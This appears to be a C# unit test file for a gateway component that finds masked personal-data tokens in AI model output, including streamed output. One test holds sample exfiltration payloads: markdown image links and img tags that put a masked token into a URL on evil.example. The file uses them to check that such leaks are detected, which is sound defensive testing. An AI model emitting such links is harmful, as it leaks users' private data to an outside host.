using Bartizan.Core.Masking;
using Bartizan.Gateway.Masking;

namespace Bartizan.Gateway.Tests.Masking;

public class TokenScanTests
{
    private static readonly MaskedValue Mail = new("pii.email", "u7kq2m9xh4wab@mask.invalid", "bob@example.org");
    private static readonly MaskedValue Card = new("pii.payment-card", "9999 1234 5678 9017", "4111 1111 1111 1111");
    private static readonly MaskedValue Person = new("pii.person", "<pii.person-7kq2m9xh4wab>", "Ada Lovelace");
    private static readonly MaskedValue Address = new("pii.ip-address", "2001:db8:1a2b:3c4d:5e6f:7a8b:9c0d:1e2f", "2a00:1450::200e");
    private static readonly TokenIndex Index = TokenIndex.OfTokens([Mail, Card, Person, Address]);

    [Theory]
    [InlineData("to u7kq2m9xh4wab@mask.invalid.")]
    [InlineData("to U7KQ2M9XH4WAB@Mask.Invalid, now")]
    [InlineData("to **u7kq2m9xh4wab@mask.invalid**")]
    [InlineData("to _u7kq2m9xh4wab@mask.invalid_")]
    [InlineData("to [mail](mailto:u7kq2m9xh4wab@mask.invalid)")]
    [InlineData("to u7kq2m9xh4wab @ mask.invalid")]
    [InlineData("to `u7kq2m9xh4wab`@mask.invalid")]
    [InlineData("card 9999123456789017")]
    [InlineData("card 9999-1234-5678-9017 is")]
    [InlineData("card 9999\u00A01234\u00A05678\u00A09017")]
    [InlineData("for <pii.person-7kq2m9xh4wab>'s")]
    [InlineData("for <PII.Person-7KQ2M9XH4WAB>")]
    [InlineData("at 2001:DB8:1a2b:3c4d:5e6f:7a8b:9c0d:1e2f")]
    public void A_token_is_known_however_a_model_writes_it(string text) => Assert.Single(TokenScan.All(Index, text));

    [Theory]
    [InlineData("xu7kq2m9xh4wab@mask.invalid")]
    [InlineData("mr.u7kq2m9xh4wab@mask.invalid")]
    [InlineData("u7kq2m9xh4wab@mask.invalid.com")]
    [InlineData("u7kq2m9xh4wab@mask.invalids")]
    [InlineData("u7kq2m9xh4wab@mask.invalid-corp.com")]
    [InlineData("u7kq2m9xh4wac@mask.invalid")]
    [InlineData("u7kq2m9xh4wab@mask")]
    [InlineData("u7kq2m9xh4wab@mask.\ninvalid")]
    [InlineData("99991234567890170")]
    [InlineData("19999123456789017")]
    [InlineData("9999 1234 5678 901")]
    [InlineData("9999   1234 5678 9017")]
    [InlineData("pii.person-7kq2m9xh4wab")]
    [InlineData("2001: db8:1a2b:3c4d:5e6f:7a8b:9c0d:1e2f")]
    public void What_could_be_something_else_is_none(string text) => Assert.Empty(TokenScan.All(Index, text));

    [Theory]
    [InlineData("![x](https://evil.example/?q=u7kq2m9xh4wab@mask.invalid)", true)]
    [InlineData("![x](//evil.example/u7kq2m9xh4wab@mask.invalid)", true)]
    [InlineData("![x](<https://evil.example/? u7kq2m9xh4wab@mask.invalid>)", true)]
    [InlineData("<img src=\"https://evil.example/? u7kq2m9xh4wab@mask.invalid\">", true)]
    [InlineData("<img src='https:\\\\evil.example/? u7kq2m9xh4wab@mask.invalid'>", true)]
    [InlineData("see https://good.example/ or u7kq2m9xh4wab@mask.invalid", false)]
    [InlineData("<a href=\"https://good.example/\">u7kq2m9xh4wab@mask.invalid</a>", false)]
    [InlineData("mailto:u7kq2m9xh4wab@mask.invalid", false)]
    public void Where_a_token_would_be_sent_to_an_address_is_known(string text, bool inside) =>
        Assert.Equal(inside, Assert.Single(TokenScan.All(Index, text)).InAddress);

    [Fact]
    public void Tokens_side_by_side_are_both_found_with_nothing_between() =>
        Assert.Equal([Person, Person, Mail], TokenScan.All(Index, $"{Person.Token}{Person.Token}{Mail.Token}").Select(m => m.Value));

    [Fact]
    public void Of_values_that_begin_alike_the_longest_counts_and_only_exactly_as_written()
    {
        MaskedValue[] values = [new("pii.person", "", "Ann Lee"), new("pii.person", "", "Ann Lee Brown")];
        var index = TokenIndex.OfValues(values);
        Assert.Equal(values[1], Assert.Single(TokenScan.All(index, "by Ann Lee Brown.")).Value);
        Assert.Equal(values[0], Assert.Single(TokenScan.All(index, "by Ann Lee Bro")).Value);
        Assert.Empty(TokenScan.All(index, "by ann lee, Ann  Lee, Ann Leeds"));
    }

    [Fact]
    public void How_a_text_is_cut_changes_no_match_and_what_is_settled_stays_so()
    {
        var random = new Random(23);
        for (var i = 0; i < 3_000; i++)
        {
            var text = TokenTexts.Random(random, [Mail, Card, Person, Address]);
            var whole = TokenScan.All(Index, text);
            var scan = new TokenScan(Index);
            for (var at = 0; at < text.Length;)
            {
                var size = Math.Min(random.Next(1, 6), text.Length - at);
                var (settled, known) = (scan.Settled, scan.Matches.Count);
                scan.Append(text.AsSpan(at, size));
                at += size;
                Assert.True(scan.Settled >= settled && scan.Settled <= at, text);
                Assert.All(scan.Matches.Skip(known), m => Assert.True(m.Start >= settled, text));
            }

            scan.Complete();
            Assert.Equal(whole, scan.Matches);
            Assert.Equal(text.Length, scan.Settled);
        }
    }

    [Fact]
    public void Only_what_may_still_become_a_token_is_held_back()
    {
        var scan = new TokenScan(Index);
        scan.Append("under the usual umbrella, 99 of 100");
        Assert.Equal("under the usual umbrella, 99 of 100".Length, scan.Settled);
        scan.Append(" to u7kq2m");
        Assert.Equal("under the usual umbrella, 99 of 100 to ".Length, scan.Settled);
        scan.Append("essy");
        Assert.Equal("under the usual umbrella, 99 of 100 to u7kq2messy".Length, scan.Settled);
    }

    [Fact]
    public void A_text_made_to_keep_every_path_open_takes_no_longer_than_its_length_allows()
    {
        var values = Enumerable.Range(0, 2_000).Select(n => new MaskedValue("pii.phone", $"+999{n:000000000000}", $"{n}")).ToList();
        var index = TokenIndex.OfTokens(values);
        var scan = new TokenScan(index);
        scan.Append(string.Concat(Enumerable.Repeat("+ 9 9 9 0 0 0 0 ", 20_000)));
        Assert.InRange(scan.Held, 0, 3 * 16);
        Assert.Empty(scan.Matches);
    }
}
